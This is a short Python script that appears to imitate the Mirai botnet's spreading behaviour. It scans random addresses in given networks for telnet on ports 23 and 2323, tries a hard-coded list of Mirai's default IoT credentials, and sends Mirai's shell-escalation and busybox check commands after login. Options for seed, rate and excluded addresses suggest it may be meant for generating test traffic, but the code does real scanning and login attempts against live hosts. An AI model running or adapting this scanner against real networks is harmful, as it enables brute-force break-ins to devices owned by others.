"""Looks for telnet at addresses of chance in given networks, and tries a few well-known passwords where it answers."""

import argparse
import ipaddress
import random
import socket
import time

_WELL_KNOWN = (("root", "xc3511"), ("root", "vizxv"), ("admin", "admin"), ("root", "888888"), ("root", "juantech"))


def main():
    arguments = _arguments()
    chance = random.Random(arguments.seed)
    networks = [ipaddress.ip_network(network) for network in arguments.networks.split(",")]
    spared = arguments.spare.split(",")
    until = time.monotonic() + arguments.seconds
    waiting = []
    while time.monotonic() < until:
        network = chance.choice(networks)
        address = str(network[chance.randint(1, 253)])
        if address not in spared:
            waiting.append((_begin(address, 23 if chance.random() < 0.9 else 2323), time.monotonic() + 2))
        while waiting and time.monotonic() > waiting[0][1]:
            _try(chance, waiting.pop(0)[0])
        time.sleep(chance.expovariate(arguments.rate))
    for connection, _ in waiting:
        connection.close()


def _begin(address, port):
    connection = socket.socket()
    connection.setblocking(False)
    connection.connect_ex((address, port))
    return connection


def _try(chance, connection):
    try:
        connection.settimeout(0.3)
        for word in chance.choice(_WELL_KNOWN):
            connection.sendall(word.encode() + b"\r\n")
            connection.recv(1024)
        connection.sendall(b"enable\r\nsystem\r\nshell\r\nsh\r\n/bin/busybox MIRAI\r\n")
    except OSError:
        pass
    connection.close()


def _arguments():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--networks", required=True)
    parser.add_argument("--spare", default="", help="addresses to leave alone")
    parser.add_argument("--rate", type=float, required=True)
    parser.add_argument("--seconds", type=float, required=True)
    parser.add_argument("--seed", type=int, required=True)
    return parser.parse_args()


main()
